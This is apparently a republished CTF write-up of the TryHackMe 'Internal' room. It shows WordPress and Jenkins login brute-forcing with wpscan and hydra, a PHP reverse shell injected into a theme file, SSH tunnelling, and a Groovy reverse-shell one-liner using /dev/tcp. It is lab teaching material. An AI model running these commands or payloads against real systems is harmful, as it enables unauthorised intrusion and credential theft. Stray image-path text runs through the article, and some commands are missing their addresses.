TryHackMe: Internal Writeup

InfoSec Write-ups – Medium–

In this article, I will be demonstrating my approach to completing the Internal Capture The Flag (CTF), a free Penetration Testing Challenge room available on the TryHackMe platform created by TheMayor. I have provided a link to the TryHackMe platform in the references below for anyone interested in trying out this CTF.


I like to add a brief disclaimer before a writeup to encourage people to attempt the room before reading this article, since there will obviously be spoilers in this writeup. I believe you will enjoy the CTF more if you attempt it yourself first and then come back to this writeup if you get stuck or need a hint. So without any further delay, lets get started!

CTF Background — Internal Pentest

I have provided a summarized version of the Pre-Engagement Brief created by the author below.You have been assigned to a client that wants a penetration test conducted on an environment due to be released to production in three weeks. The client has asked that you secure two flags (no location provided) as proof of exploitation:



Additionally, the client has provided the following scope allowances:

– Ensure that you modify your hosts file to reflect internal.thm

– Any tools or techniques are permitted in this engagement

– Locate and note all vulnerabilities found

– Submit the flags discovered to the dashboard

– Only the IP address assigned to your machine is in scope

N.B. The CTF author also encourages players to approach this challenge as an actual penetration test, as this will benefit you in preparation for the eLearnsecurity eCPPT or careeras a penetration tester in the field.

For this article, I will just be focusing on retrieving the user and root flags.


I started by modifying the hosts file at /etc/hosts and making an entry for internal.thm as instructed by the pre-engagement brief.   internal.thm # entry in hosts file (use your own IP)

Next, I started scanning the target machine with NMAP for any open ports.

nmap -sV -sC -v -Pn -oN nmap_report

The NMAP command can be broken down as follows:

  • -Pn: Disables host discovery.
  • -sV: Performs version detection for the services.
  • -sC: Performs a script scan using default scripts available in NMAP.
  • -v: Provides verbose details about the NMAP scan.
  • -oN: Outputs scan results to a file.

I found two open ports, port 22 and port 80. I decided to check what was being hosted on port 80 and found a default welcome page for Apache2.

Next, I decided to use GoBuster and see if there were any hidden web pages or directories.

gobuster dir -u http://internal.thm/ -w /usr/share/wordlists/dirb/common.txt

GoBuster was able to identify several interesting hidden web pages as seen in the image below.

Looking at the /blog page, I can see that a simple wordpress blog site is being hosted on the target machine.

Scrolling down the page, I can also see a link that takes meto a wordpress login page.

GoBuster also found a second login page called /phpmyadmin as seen below.

Vulnerable WordPress Login

I decided to focus on the login page for the WordPress site first. After trying a few different credentials, I saw that a different error message would be presented depending on what username I entered. For example, if I enter the credentials test:test, the following error message is displayed.

However, if I enter the credentials admin:test, then a different error message is displayed. This tells me that there is a user called admin.

Seeing this, I decided to use the wpscan tool to attempt to bruteforce the login for the username admin with the rockyou.txt wordlist, as seen below.

wpscan --url internal.thm/wordpress/ --passwords rockyou.txt --usernames admin --max-threads 50This worked, and I was able to recover the password for the user admin.

Upon successfully logging in, I started looking for any interesting information. I noted that the WordPress version being used was 5.4.2 in this instance. I also saw that two posts had been made by the user admin, one of which was set to private and had no title. Looking at this post, I found a set of credentials for the user william.

WordPress Reverse Shell

Despite finding these credentials, I was unable to SSH into the target machine or login to the /phpmyadmin page with them. After some searching online, I found an article (see references) which demonstrates a few different approaches to gain a reverse shell. One approach is to injectmalicious code in WP_Theme, by navigating to Appearances->Editor->404.php and then injecting a PHP reverse shell provided by Pentestmonkey (see references). I only changed the IP address and the port number in the PHP code to my own.

I then clicked the button Update File and set netcat to listen on port 4444. Finally, I navigated to the URL address seen below and gained a reverse shell on the target machine as the user www-data.


User Privilege Escalation

After gaining a reverse shell, I started looking for ways to escalate my privileges. Looking at the home directory, I saw that there was a user directory called aubreanna but I did not have permission to look at it’s contents.

Examining the /etc directory, I came across the /phpmyadmin directory. Examining this directory, I was able to find the credentials for the login page discovered earlier by Gobuster.

These credentials allowed me to successfully login and view the database but I did not find anything that would allow me to escalate my privileges. I was also able to find a directory called /wordpress that contained the credentials for the Word Press database. I could use these credentials with the /myphpadmin login web page to view the wordpress database. However, I still did not find any interesting information.

After some more searching, I found a interesting file called wp-save.txt located in the /opt directory. Opening this file, I was able to find the credentials for the user aubreanna.Using these credentials, I can successfully SSH into the target machine and get the user.txt flag.

Root Privilege Escalation

A file called Jenkins.txt was also found which contained an interesting message.

There is apparently a Jenkins service running internally on the target machine. I can use SSH tunneling to connect to this remote service and make it accessible on my local machine (see references). To achieve this, I can simply establish an SSH connection with the SSH server and tell the client to forward traffic from a specific port from my local host (i.e. localhost:4444) to the address of the service and its port (i.e. The full command can be seen below.

ssh -L 4444: aubreanna@

Now when I type localhost:4444 into my browser, a login page for the Jenkins service is accessible.I decided to look for some login credentials hidden else where on the target machine but I could not find anything. A quick search online showed that the default credentials for the Jenkins login is admin/password but this also failed to work. I eventually decided to try and bruteforce the login using hydra (see references). Using the developer tools on chrome, I checked what parameters are being used by the login page when credentials are submitted.

The parameters highlighted in red above will need to be provided each time a login attempt is made. I decided to use the username admin since it is the default username for Jenkins and try to bruteforce the password using these parameters.

hydra -s 4444 -V -f http-form-post"/j_acegi_security_check:j_username=^USER^&j_password=^PASS^&from=%2F&Submit=Sign+in&Login=Login:Invalid username or password" -l admin -P rockyou.txt

A break down of the Hydra command is as follows:

  • -s: port number
  • -f: Stop brute forcing the login page once the password is found.
  • -V: Display the attempts being made by Hydra and other details.
  • http-form-post: Indicates the type of form being used (i.e. POST).
  • ^USER^: tells Hydra to use the username or list in the field.
  • ^PASS^: tells Hydra to use the password list supplied.
  • -l: indicates a single username e.g. “admin”(use -L for a username list).
  • -P: indicates use the following password list e.g. rockyou.txt

Executing thiscommand results in the credentials for the user admin being recovered, allowing me to login to Jenkins.

A quick search on Google reveals a number of ways to gain a reverse shell by exploiting vulnerabilities in Jenkins. The method I used was to exploit the Script Console feature on Jenkins (see references).

To create a reverse shell on the system, we need to use Groovy script. Since it is basically Java, we can use a Java reverse shell from pentestmonkey.

r = Runtime.getRuntime()
p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/;cat <&5 | while read line; do \$line 2>&5 >&5; done"] as String[])

I can then listen for a connection on port 5555 and successfully get a reverse shell.

Looking through the container system, I found a note.txt file stored in the /opt directory which contains a message and the credentials for the user root.

Using these credentials, I can SSH in as the user root and get the root flag 😃!Closing Remarks

This was a fun and challenging CTF available on the TryHackMe platform. I found it was a great way to learn moreabout Penetration Testing in general, incorporating a wide range of vulnerable services to exploit and pentesting techniques. Thanks for reading till the end and keep hacking!


TryHackMe: Internal Writeup was originally published in InfoSec Write-ups on Medium, where people are continuing the conversation by highlighting and responding to this story.

View original article on InfoSec Write-ups – Medium

Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /Change )

Facebook photo

You are commenting using your Facebook account. Log Out /  Change )

Connecting to %s